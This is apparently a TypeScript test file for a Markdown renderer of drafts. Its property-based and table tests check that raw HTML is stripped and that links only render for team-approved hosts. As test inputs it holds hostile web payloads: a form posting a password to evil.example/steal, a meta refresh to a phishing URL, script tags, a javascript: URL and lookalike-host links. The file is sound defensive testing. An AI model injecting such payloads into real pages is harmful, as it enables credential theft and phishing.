import fc from 'fast-check';
import { render } from 'preact-render-to-string';
import { Markdown } from './markdown.page.js';

const shown = (text: string, ownWords = ''): string => render(<Markdown text={text} ownWords={ownWords} />);

const FORM = '<form action=//evil.example/steal method=post><input name=password>';
const SAFE_TAG = /<\/?(?:div|p|em|strong|del|code|pre|blockquote|ul|ol|li|h[2-6]|hr|br|table|thead|tbody|tr|th|td)\b/g;

describe('the Markdown of a draft', () => {
  it.each([
    ['`<code>` that is never closed', 'see <code> <meta http-equiv=refresh content=3;url=//evil.example/phish'],
    ['`<pre>`', `see <pre> ${FORM}`],
    ['`<kbd>`', `see <kbd> ${FORM}`],
    ['`<script>`', `see <script> ${FORM}`],
    ['a paragraph', FORM],
    ['a list', `- see <code> ${FORM}`],
  ])('has no tag of the text after %s', (_, text) => {
    expect(shown(text)).not.toMatch(/<(?:meta|form|input|script|kbd)\b/);
  });

  it.each(['> ', '- '])('is shown as it was written when it nests %j too deeply to be rendered', (marker) => {
    const text = `${marker.repeat(10_000)}end`;
    expect(shown(text)).toMatch(/^<p class="post">.*end<\/p>$/);
  });

  it('has only tags of Markdown for any combination of HTML and Markdown', () => {
    const PIECES = [
      '<code>',
      '</code',
      '<pre',
      '<kbd>',
      '<script>',
      FORM,
      '<a href="x"',
      '`',
      '```\n',
      '> ',
      '- ',
      '* ',
    ];
    const pieces = fc.constantFrom(
      ...PIECES,
      '\n',
      '\n\n',
      '[x](',
      ')',
      '![',
      '](//e.example)',
      '<!--',
      '|',
      '-|-\n',
      '&lt;',
      '\\',
      '"',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 5 })), { maxLength: 12 }), (parts) => {
        expect(shown(parts.join('')).replace(SAFE_TAG, '')).not.toMatch(/<[a-z/!]/i);
      }),
      { numRuns: 2_000 },
    );
  });

  it('links to a host that the team has written', () => {
    expect(shown('see [the tour](https://acme.example/tour)', 'Our tour is at acme.example.')).toContain(
      '<a href="https://acme.example/tour" rel="nofollow noreferrer">the tour</a>',
    );
  });

  it.each([
    ['[log in](https://evil.example/a)', 'log in (https://evil.example/a)'],
    ['[log in](https://acme.example.evil.example/)', 'log in (https://acme.example.evil.example/)'],
    ['[log in](https://acme.example@evil.example/)', 'log in (https://acme.example@evil.example/)'],
    ['[log in](javascript:alert(1))', 'log in (javascript:alert(1))'],
    ['https://evil.example/a', '<p>https://evil.example/a</p>'],
    ['www.evil.example', '<p>www.evil.example</p>'],
    ['me@evil.example', '<p>me@evil.example</p>'],
  ])('shows %s as text with its address', (text, expected) => {
    const html = shown(text, 'https://acme.example');
    expect([html.includes('<a'), html]).toEqual([false, expect.stringContaining(expected)]);
  });
});
